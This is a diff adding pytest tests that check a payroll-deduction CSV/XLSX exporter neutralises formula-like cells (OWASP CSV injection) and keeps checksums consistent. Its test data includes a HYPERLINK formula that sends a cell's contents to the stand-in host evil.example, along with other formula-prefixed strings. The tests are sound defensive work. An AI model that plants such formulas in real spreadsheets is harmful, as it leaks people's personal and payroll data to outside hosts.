@@ -230,3 +230,88 @@ def test_adjustments_of_a_locked_month_are_paid_in_the_open_month(use_warehouse,
         == 0
     )
     assert not [line for line in aug.read_text().splitlines() if line.startswith("PENYESUAIAN,")]
+
+
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?"&B2,"klik")',
+    "+62 812",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTAB",
+]
+
+
+def _hostile_rows():
+    from dashboards.export import AdjustmentRow, DeductionRow
+
+    rows = [
+        DeductionRow(
+            f"19800101200001100{i}",
+            text,
+            f"OPD{i}",
+            text,
+            5_000_000,
+            Decimal("3.00"),
+            150_000,
+            4_850_000,
+            21,
+            20,
+            1,
+            0,
+        )  # fmt: skip
+        for i, text in enumerate(HOSTILE_TEXTS)
+    ]
+    adjustments = [
+        AdjustmentRow(
+            "198001012000011000",
+            HOSTILE_TEXTS[0],
+            "OPD0",
+            HOSTILE_TEXTS[3],
+            "2026-08",
+            150_000,
+            0,
+            -150_000,
+            "=1+1",
+        )  # fmt: skip
+    ]
+    return rows, adjustments
+
+
+def test_formula_like_names_are_neutralised_in_csv_and_checksummed_as_written(tmp_path):
+    """OWASP CSV injection: a cell starting with = + - @ or a tab is written with a leading apostrophe,
+    and the checksum covers those neutral lines (`export verify` agrees, and so does sha256sum)."""
+    from dashboards.export import write_deductions
+
+    rows, adjustments = _hostile_rows()
+    out = tmp_path / "p.csv"
+    result = write_deductions(out, "csv", "2026-09", "FINAL", rows, adjustments)
+    lines = out.read_text(encoding="utf-8").splitlines()
+    parsed = list(csv.reader(lines))
+    text_cells = [
+        cell for r in parsed if r[0] in ("DATA", "PENYESUAIAN", "TOTAL_OPD") for cell in (r[2], r[4])
+    ]
+    assert text_cells and all(not c.startswith(("=", "+", "-", "@", "\t")) for c in text_cells if c)
+    names = [r[2] for r in parsed if r[0] == "DATA"]
+    assert names == ["'" + t for t in HOSTILE_TEXTS]
+    alasan = next(r for r in parsed if r[0] == "PENYESUAIAN")[9]
+    assert alasan == "'=1+1"
+    # the money cells stay numbers (a negative adjustment is not text)
+    assert next(r for r in parsed if r[0] == "PENYESUAIAN")[8] == "-150000"
+    written = "".join(line + "\n" for line in lines if line.startswith(("DATA,", "PENYESUAIAN,")))
+    assert hashlib.sha256(written.encode()).hexdigest() == result.checksum
+    assert verify_file(out) == (True, result.checksum, result.checksum)
+
+
+def test_formula_like_names_are_text_not_formulas_in_xlsx(tmp_path):
+    from dashboards.export import write_deductions
+
+    rows, adjustments = _hostile_rows()
+    csv_result = write_deductions(tmp_path / "p.csv", "csv", "2026-09", "FINAL", rows, adjustments)
+    out = tmp_path / "p.xlsx"
+    result = write_deductions(out, "xlsx", "2026-09", "FINAL", rows, adjustments)
+    wb = load_workbook(out)
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no live formula anywhere
+    names = [r[2] for r in wb["Potongan"].iter_rows(min_row=2, values_only=True)]
+    assert names == ["'" + t for t in HOSTILE_TEXTS]
+    assert result.checksum == csv_result.checksum and verify_file(out)[0]
